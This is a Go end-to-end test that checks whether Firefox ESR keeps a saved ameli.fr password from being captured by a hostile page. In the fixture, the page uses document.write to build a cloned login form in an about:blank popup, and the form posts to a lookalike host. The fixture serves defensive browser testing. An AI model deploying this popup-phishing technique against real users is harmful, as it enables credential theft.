package e2e

import (
	"strconv"
	"strings"
	"testing"
	"time"
)

// The same as TestHostileDocumentOpen, in Firefox ESR.
func TestFirefoxHostileDocumentOpen(t *testing.T) {
	f := newFirefox(t)
	f.site.setPage("www.ameli.fr", loginPage("ameli — mon compte", ""))
	rewritten := strings.Replace(loginPage("Connexion", ""), `action="/login"`, `action="http://popup-ecrit.fr/login"`, 1)
	f.site.setPage("popup-ecrit.fr", `<!doctype html><title>Accueil</title><button id="open">Se connecter</button><script>
document.getElementById("open").onclick = () => {
  const w = window.open("about:blank");
  w.document.open(); w.document.write(`+strconv.Quote(rewritten)+`); w.document.close();
};</script>`)
	submit := func(ctx, pw string) {
		f.typeIn(t, ctx, "pw", pw) // typed: what password recognition listens to
		f.eval(t, ctx, `document.getElementById("f").requestSubmit(), "ok"`)
	}
	real := f.tab(t)
	f.navigate(t, real, "http://www.ameli.fr/")
	submit(real, secret)
	waitFor(t, "the real login", func() bool { return len(f.site.postsTo("www.ameli.fr")) == 1 })

	typeInPopup := func(pw string) {
		tab := f.tab(t)
		f.navigate(t, tab, "http://popup-ecrit.fr/")
		var before struct {
			Contexts []struct{ Context, URL string }
		}
		f.bidi.call("browsingContext.getTree", map[string]any{}, &before)
		f.eval(t, tab, `document.getElementById("open").click(), "ok"`)
		var popup string
		waitFor(t, "the written popup", func() bool {
			var tree struct {
				Contexts []struct{ Context, URL string }
			}
			f.bidi.call("browsingContext.getTree", map[string]any{}, &tree)
			for _, c := range tree.Contexts {
				seen := false
				for _, o := range before.Contexts {
					seen = seen || o.Context == c.Context
				}
				if !seen {
					popup = c.Context
					return f.eval(t, popup, `String(!!document.getElementById("pw"))`) == "true"
				}
			}
			return false
		})
		submit(popup, pw)
		time.Sleep(1500 * time.Millisecond)
		f.bidi.call("browsingContext.close", map[string]any{"context": popup}, nil)
	}
	typeInPopup(other) // the control: this one is sent
	if p := f.site.postsTo("popup-ecrit.fr"); len(p) != 1 || !strings.Contains(p[0], other) {
		t.Fatalf("the control password did not reach the popup's server: %v", p)
	}
	typeInPopup(secret)
	if p := f.site.postsTo("popup-ecrit.fr"); leaked(p, secret) {
		t.Fatalf("ameli.fr's password reached the page's server: %q", p)
	}
}
